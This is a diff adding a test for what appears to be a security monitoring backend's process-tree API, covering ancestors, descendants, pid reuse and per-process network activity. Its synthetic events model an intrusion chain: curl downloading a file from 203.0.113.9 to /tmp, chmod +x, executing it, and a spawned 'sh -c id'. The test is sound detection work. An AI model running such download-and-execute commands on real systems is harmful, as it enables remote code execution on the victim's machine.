@@ -136,3 +136,35 @@ test('an analyst IOC sweep finds which hosts ran a hash, first seen, counts and 
   assert.equal(ip.count, 0);
   assert.deepEqual(ip.hosts, []);
 });
+
+test('process tree: ancestors, descendants and what each process did, across pid reuse', async () => {
+  const proc = (entity: string, parent: string | undefined, pid: number, exe: string, commandLine: string, offset: number, action = 'start') =>
+    event(hostA.agentId, 'process', action, {
+      'process.pid': pid, 'process.entity_id': entity, ...(parent ? { 'process.parent.entity_id': parent } : {}), 'process.parent.pid': 1,
+      'process.executable': exe, 'process.name': exe.split('/').pop(), 'process.command_line': commandLine,
+    }, offset);
+  await post(hostA, [
+    proc('E-sshd', undefined, 700, '/usr/sbin/sshd', 'sshd: alice', 400),
+    proc('E-bash', 'E-sshd', 701, '/usr/bin/bash', '-bash', 401),
+    proc('E-curl', 'E-bash', 702, '/usr/bin/curl', 'curl -o /tmp/p http://203.0.113.9/p', 402),
+    event(hostA.agentId, 'network', 'connect', { 'process.pid': 702, 'process.entity_id': 'E-curl', 'destination.ip': '203.0.113.9', 'destination.port': 80 }, 403),
+    proc('E-chmod', 'E-bash', 703, '/usr/bin/chmod', 'chmod +x /tmp/p', 404),
+    proc('E-p', 'E-bash', 702, '/tmp/p', '/tmp/p', 405),
+    proc('E-sh', 'E-p', 704, '/usr/bin/sh', 'sh -c id', 406),
+    proc('E-sh', 'E-p', 704, '/usr/bin/sh', 'sh -c id', 407, 'exit'),
+  ]);
+  const reply = await api.get(`/api/v1/hosts/${hostA.agentId}/process-tree?entity_id=E-bash`);
+  assert.equal(reply.status, 200, JSON.stringify(reply.body));
+  const tree = reply.body;
+  assert.deepEqual(tree.ancestors.map((n: { entityId: string }) => n.entityId), ['E-sshd']);
+  assert.deepEqual(tree.nodes.map((n: { entityId: string }) => n.entityId).sort(), ['E-bash', 'E-chmod', 'E-curl', 'E-p', 'E-sh']);
+  assert.ok(tree.edges.some((e: { parent: string; child: string }) => e.parent === 'E-p' && e.child === 'E-sh'));
+  const curl = tree.nodes.find((n: { entityId: string }) => n.entityId === 'E-curl');
+  assert.deepEqual(curl.activity, { 'network/connect': 1 });
+  const p = tree.nodes.find((n: { entityId: string }) => n.entityId === 'E-p');
+  assert.equal(p.pid, 702, 'pid 702 reused: a different process with its own entity id');
+  assert.equal(p.executable, '/tmp/p');
+  const sh = tree.nodes.find((n: { entityId: string }) => n.entityId === 'E-sh');
+  assert.ok(sh.end, 'the exit event closes the node');
+  assert.equal((await api.get(`/api/v1/hosts/${hostA.agentId}/process-tree?entity_id=nope`)).status, 404);
+});
